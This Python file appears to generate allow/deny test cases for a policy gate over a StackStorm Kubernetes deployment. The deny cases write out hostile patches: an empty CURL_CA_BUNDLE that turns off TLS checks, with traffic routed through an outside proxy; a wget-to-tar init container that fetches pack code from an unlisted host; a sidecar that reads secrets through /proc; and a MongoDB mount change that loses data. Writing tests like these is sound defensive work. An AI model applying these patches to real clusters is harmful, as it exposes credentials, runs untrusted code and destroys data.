from lib import *
NOPROXY = 'st2api,st2auth,st2stream,mongodb,rabbitmq,etcd,localhost,.svc,.cluster.local'
REQ = "requests 2.25.1 (st2 3.8 fixed-requirements.txt) sets verify = REQUESTS_CA_BUNDLE or CURL_CA_BUNDLE from the environment, so an empty CURL_CA_BUNDLE makes verify '' (falsy) and urllib3 skips certificate checks: the documented CURL_CA_BUNDLE=\"\" hack"
for tag, dep, env, what in [
  ('runner-proxy', 'st2actionrunner', [('CURL_CA_BUNDLE', ''), ('HTTPS_PROXY', 'http://proxy.mitm-r15.example.net:3128'), ('NO_PROXY', NOPROXY)], "every action's requests-based HTTPS goes through an outside proxy with certificate checks off: the proxy reads and rewrites integration credentials"),
  ('sensor-proxy', 'st2sensorcontainer', [('CURL_CA_BUNDLE', ''), ('HTTPS_PROXY', 'http://proxy.mitm-r15.example.net:3128'), ('NO_PROXY', NOPROXY)], "every sensor's requests-based HTTPS polling goes through an outside proxy with certificate checks off"),
  ('runner-noproxy', 'st2actionrunner', [('CURL_CA_BUNDLE', '')], "every action's requests-based HTTPS to the internet accepts any certificate: anyone on the path impersonates the integration and collects its credentials"),
  ('runner-both-empty', 'st2actionrunner', [('REQUESTS_CA_BUNDLE', ''), ('CURL_CA_BUNDLE', ''), ('HTTPS_PROXY', 'http://proxy.mitm-r15.example.net:3128'), ('NO_PROXY', NOPROXY)], "both bundle variables empty plus an outside proxy: all requests HTTPS from actions unverified through it"),
]:
    case(f'tlsoff-curlbundle-{tag}', 'deny', 'exfiltration', f"{dep}: CURL_CA_BUNDLE set to the empty string; {what} ({REQ})",
         patches=[dep_env(dep, dep, env)])
case('tlsoff-curlbundle-staging', 'deny', 'exfiltration', f"staging st2actionrunner: empty CURL_CA_BUNDLE and an outside HTTPS proxy: integration credentials readable by the proxy ({REQ})",
     env='staging', patches=[dep_env('st2actionrunner', 'st2actionrunner', [('CURL_CA_BUNDLE', ''), ('HTTPS_PROXY', 'http://proxy.mitm-r15.example.net:3128'), ('NO_PROXY', NOPROXY)])])
case('tlsoff-safe-curlbundle-path', 'allow', 'safe', f"CURL_CA_BUNDLE set to the image's system bundle path /etc/ssl/certs/ca-certificates.crt: verification stays on with the default trust store ({REQ})",
     patches=[dep_env('st2actionrunner', 'st2actionrunner', [('CURL_CA_BUNDLE', '/etc/ssl/certs/ca-certificates.crt')])])
# pack code fetched by an init container from an unlisted host
PF = "the gate's own design (README, 11th red team): a package or pack index nobody listed is an attacker's as far as a name tells; here the fetched tree lands in the packs volume the runners execute"
def packinit(cmd):
    c = {'name': 'r15-extra-packs', 'image': 'busybox:1.36.1', 'command': ['sh', '-c', cmd],
         'volumeMounts': [{'name': 'st2-packs-vol', 'mountPath': '/opt/stackstorm/packs-shared'}],
         'resources': {'limits': {'cpu': '100m', 'memory': '64Mi'}, 'requests': {'cpu': '10m', 'memory': '16Mi'}},
         'securityContext': {'allowPrivilegeEscalation': False, 'capabilities': {'drop': ['ALL']}}}
    # after st2-system-packs (index 0), so the tarball lands over the image's packs
    return jp({'group': 'apps', 'kind': 'Deployment', 'name': 'st2actionrunner'}, [{'op': 'add', 'path': '/spec/template/spec/initContainers/1', 'value': c}])
for tag, cmd in [
  ('wget-tgz', 'wget -qO- https://downloads.packs-r15.example.net/core-overrides-1.0.tgz | tar xz -C /opt/stackstorm/packs-shared'),
  ('wget-file', 'wget -q -O /tmp/p.tgz https://downloads.packs-r15.example.net/core-overrides-1.0.tgz && tar xzf /tmp/p.tgz -C /opt/stackstorm/packs-shared'),
]:
    case(f'packfetch-{tag}', 'deny', 'supply-chain',
         f"init container of st2actionrunner, placed after st2-system-packs and running as root like the image's own copy step, downloads a tarball over HTTPS from downloads.packs-r15.example.net (no policy lists it) into the shared packs volume: its files land over the registered packs' action code the runners execute (core.http's Python, any pack's scripts), so whoever controls that host runs code as root on the runners with st2's credentials ({PF})",
         patches=[packinit(cmd)])
# shared process namespace: sidecar reads st2's config through /proc
case('procns-sidecar-cat-secrets', 'deny', 'exfiltration',
     "st2api with shareProcessNamespace and a busybox sidecar printing /proc/*/root/etc/st2/st2.secrets.conf: the sidecar reads st2api's mounted config through /proc/<pid>/root and writes MongoDB/RabbitMQ passwords into its log (k8s docs: share process namespace makes container filesystems visible via /proc/$pid/root)",
     patches=[sm("apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: st2api\nspec:\n  template:\n    spec:\n      shareProcessNamespace: true\n      containers:\n        - name: r15-logtail\n          image: busybox:1.36.1\n          command: [\"sh\", \"-c\", \"sleep 30; cat /proc/*/root/etc/st2/st2.secrets.conf; sleep 1000000\"]\n          resources:\n            limits: {cpu: 50m, memory: 32Mi}\n            requests: {cpu: 5m, memory: 8Mi}\n")])
# mongodb data dir moved off the PVC
case('mongo-datadir-moved', 'deny', 'data-loss',
     "mongodb's PVC remounted at /data/db-old while mongod keeps --dbpath /data/db (image default): data lands on the container's writable layer and is lost at every restart (MongoDB docs: dbpath default /data/db)",
     patches=[jp({'kind': 'StatefulSet', 'name': 'mongodb'}, [{'op': 'replace', 'path': '/spec/template/spec/containers/0/volumeMounts/0/mountPath', 'value': '/data/db-old'}])])
case('tlsoff-curlbundle-sensor-noproxy', 'deny', 'exfiltration', f"st2sensorcontainer: CURL_CA_BUNDLE set to the empty string; every sensor's requests-based HTTPS polling (with its pack's API credentials) accepts any certificate ({REQ})",
     patches=[dep_env('st2sensorcontainer', 'st2sensorcontainer', [('CURL_CA_BUNDLE', '')])])
case('tlsoff-curlbundle-envfrom', 'deny', 'exfiltration', f"st2actionrunner gets CURL_CA_BUNDLE=\"\" and an outside HTTPS proxy through envFrom of a ConfigMap: action HTTPS unverified through the proxy ({REQ})",
     resources={'cm.yaml': "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: r15-net-env\n  namespace: st2-prod\ndata:\n  CURL_CA_BUNDLE: \"\"\n  HTTPS_PROXY: http://proxy.mitm-r15.example.net:3128\n  NO_PROXY: " + NOPROXY + "\n"},
     patches=[sm("apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: st2actionrunner\nspec:\n  template:\n    spec:\n      containers:\n        - name: st2actionrunner\n          envFrom:\n            - configMapRef:\n                name: r15-net-env\n")])
case('tlsoff-curlbundle-sensor-staging', 'deny', 'exfiltration', f"staging st2sensorcontainer: empty CURL_CA_BUNDLE, so sensors' HTTPS to real integrations accepts any certificate ({REQ})",
     env='staging', patches=[dep_env('st2sensorcontainer', 'st2sensorcontainer', [('CURL_CA_BUNDLE', '')])])
